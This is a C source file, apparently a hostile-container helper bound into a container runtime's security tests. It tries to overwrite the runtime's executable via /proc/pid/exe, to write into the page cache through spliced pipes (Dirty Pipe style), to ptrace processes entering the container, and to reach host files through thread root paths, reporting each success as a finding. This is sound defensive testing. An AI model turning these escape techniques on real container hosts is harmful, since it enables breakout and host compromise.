/* What a hostile container does: built statically and bound into containers of the tests. Every line that it prints is a finding, but for those that begin with "did". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* The test ends a loop by making this file. */
static const char stop[] = "/tmp/stop";

static int stopped(void) { return access(stop, F_OK) == 0; }

static int is_number(const char *name) { return name[0] >= '1' && name[0] <= '9'; }

/* Every way of changing the content of an open file that should not change. */
static int alter(const char *path) {
    static char evil[4096] = "#!/bin/sh\n";
    int harm = 0;
    int fd = open(path, O_RDWR);
    if (fd >= 0) {
        if (write(fd, evil, sizeof evil) > 0) { printf("written\n"); harm++; }
        if (pwrite(fd, evil, 1, 0) > 0) { printf("pwritten\n"); harm++; }
        if (ftruncate(fd, 0) == 0) { printf("truncated\n"); harm++; }
        if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0) { printf("punched\n"); harm++; }
        void *map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (map != MAP_FAILED) { printf("mapped for writing\n"); harm++; munmap(map, 4096); }
        int pipes[2];
        if (pipe(pipes) == 0) {
            if (write(pipes[1], evil, 64) == 64 && splice(pipes[0], 0, fd, 0, 64, 0) > 0) { printf("spliced into\n"); harm++; }
            close(pipes[0]);
            close(pipes[1]);
        }
        if (fcntl(fd, F_ADD_SEALS, 0) == 0) { printf("seals can be added\n"); harm++; }
        close(fd);
    }
    if (open(path, O_WRONLY | O_TRUNC) >= 0) { printf("opened with truncation\n"); harm++; }
    if (truncate(path, 1) == 0) { printf("truncated by path\n"); harm++; }

    /* Pages that a pipe took from the page cache must not be written through the pipe (CVE-2022-0847, CVE-2026-31431). */
    fd = open(path, O_RDONLY);
    int pipes[2];
    if (fd >= 0 && pipe(pipes) == 0) {
        loff_t from = 0;
        char before[64], after[64];
        if (pread(fd, before, sizeof before, 0) == sizeof before && splice(fd, &from, pipes[1], 0, 1, 0) == 1) {
            if (write(pipes[1], evil, 63) != 63) perror("did not write to the pipe");
            if (pread(fd, after, sizeof after, 0) != sizeof after || memcmp(before, after, sizeof before) != 0) { printf("page cache changed through a pipe\n"); harm++; }
        }
        void *map = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
        if (map != MAP_FAILED && mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0) { printf("mapping made writable\n"); harm++; }
        close(pipes[0]);
        close(pipes[1]);
    }
    if (fd >= 0) close(fd);
    return harm;
}

/* Takes hold of every program that ever runs in the container and is not one of its files, and tries to change it, also when it has ended. */
static void overwrite(void) {
    int caught = 0, held[64];
    while (!stopped()) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            char path[300], target[300] = "";
            if (!is_number(entry->d_name)) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            if (readlink(path, target, sizeof target - 1) > 0 && target[0] == '/' && strstr(target, "memfd") == 0 && strstr(target, "rtinit") == 0) {
                close(fd);
                continue;
            }
            if (strlen(target) == 0) { close(fd); continue; }
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            if (caught == 0) {
                printf("did catch %s\n", target);
                fflush(stdout);
            }
            alter(path);
            if (caught < 64) held[caught] = fd; else close(fd);
            caught++;
        }
        closedir(proc);
    }
    for (int i = 0; i < caught && i < 64; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        alter(path);
    }
    printf("did catch %d\n", caught);
}

/* Threads have roots of their own. */
static void look_from_threads(int pid, const char *comm, const char *canary) {
    char path[400];
    snprintf(path, sizeof path, "/proc/%d/task", pid);
    DIR *tasks = opendir(path);
    for (struct dirent *task; tasks && (task = readdir(tasks));) {
        const char *ways[] = { "root", "cwd" };
        for (int i = 0; is_number(task->d_name) && i < 2; i++) {
            snprintf(path, sizeof path, "/proc/%d/task/%s/%s%s", pid, task->d_name, ways[i], canary);
            if (access(path, F_OK) == 0) printf("host file by %s of a thread of %s\n", ways[i], comm);
            snprintf(path, sizeof path, "/proc/%d/task/%s/%s/../../../../../../../..%s", pid, task->d_name, ways[i], canary);
            if (access(path, F_OK) == 0) printf("host file above %s of a thread of %s\n", ways[i], comm);
        }
    }
    if (tasks) closedir(tasks);
}

/* Looks at every process that comes: its fds, root and working directory, and whether it can be traced while it is not yet the user's. */
static void spy(const char *canary) {
    long seen = 0, shims = 0, denied = 0;
    while (!stopped()) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            char path[400], target[400], comm[32] = "";
            if (!is_number(entry->d_name)) continue;
            int pid = atoi(entry->d_name);
            if (pid == getpid() || pid == 1) continue;
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0;
            close(fd);
            /* Not each other: two spies that stop one another would never go on. */
            if (strncmp(comm, "escapes", 7) == 0) continue;
            seen++;
            look_from_threads(pid, comm, canary);
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            for (struct dirent *number; fds && (number = readdir(fds));) {
                if (number->d_name[0] == '.') continue;
                snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, number->d_name);
                ssize_t length = readlink(path, target, sizeof target - 1);
                if (length < 0) continue;
                target[length] = 0;
                if (strncmp(target, "pipe:", 5) && strncmp(target, "/dev/null", 9) && strncmp(target, "/dev/pts", 8) && strncmp(target, "/proc", 5))
                    printf("fd %s of %s is %s\n", number->d_name, comm, target);
            }
            if (fds) closedir(fds);
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                snprintf(path, sizeof path, "/proc/%d/exe", pid);
                ssize_t length = readlink(path, target, sizeof target - 1);
                target[length > 0 ? length : 0] = 0;
                if (strstr(target, "memfd") || strstr(target, "rtinit")) printf("traced %s\n", target);
                /* SEIZE stops nobody; a stop is needed to let go again. */
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                int status;
                if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) ptrace(PTRACE_DETACH, pid, 0, 0);
            } else if (errno == EPERM) {
                denied++;
            }
            if (strstr(comm, "rtinit") || strncmp(comm, "memfd", 5) == 0 || is_number(comm)) shims++;
        }
        closedir(proc);
    }
    printf("did see %ld processes, %ld of them on their way, and was denied %ld times\n", seen, shims, denied);
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    if (argc > 1 && strcmp(argv[1], "overwrite") == 0) overwrite();
    else if (argc > 2 && strcmp(argv[1], "spy") == 0) spy(argv[2]);
    else if (argc > 2 && strcmp(argv[1], "alter") == 0) return alter(argv[2]) > 0;
    else if (argc > 3 && strcmp(argv[1], "socket") == 0) {
        int fd = socket(atoi(argv[2]), atoi(argv[3]), 0);
        printf("%s\n", fd >= 0 ? "opened" : strerror(errno));
    } else return 2;
    return 0;
}
